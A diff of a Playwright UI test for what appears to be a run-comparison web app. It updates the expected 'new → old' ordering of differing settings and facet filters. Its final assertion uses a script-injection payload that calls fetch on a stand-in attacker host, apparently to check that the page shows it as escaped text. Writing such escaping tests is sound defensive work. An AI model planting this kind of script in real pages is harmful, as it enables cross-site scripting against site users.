@@ -476,12 +476,14 @@ def test_a_second_run_is_shown_beside_the_first(
     page.wait("shown.rows.length == 3")
     assert "beside old" in page.page.inner_text("#about")
     settings = page.page.inner_text("#settings")
-    assert settings.startswith("settings that differ, old → new: other.s0: ") and "fetch('http" in settings
-    assert "other.s4" in settings and settings.endswith(" → –, and 2 more (beam diff lists them)")
+    assert settings.startswith("settings that differ, new → old: other.s0: – → ") and "fetch('http" in settings
+    assert "other.s4" in settings and settings.endswith(", and 2 more (beam diff lists them)")
     if page.page.is_visible("#facets-open"):
         page.page.click("#facets-open")
-    page.page.click("#facets button.class:has-text('rejected → sft')")
+    assert page.page.is_visible("#facets h2:text-is('change of set, new → old')")
+    page.page.click("#facets button.class:has-text('sft → rejected')")
     page.wait("shown.total == 1")
+    assert page.page.inner_text("#chips") == "change of set, new → old: sft → rejected ×"
     page.page.click(".card >> nth=0")
     page.page.wait_for_selector("dialog[open] section.other")
     assert "<script>fetch('http://evil.example')</script>" in page.page.inner_text("section.other")
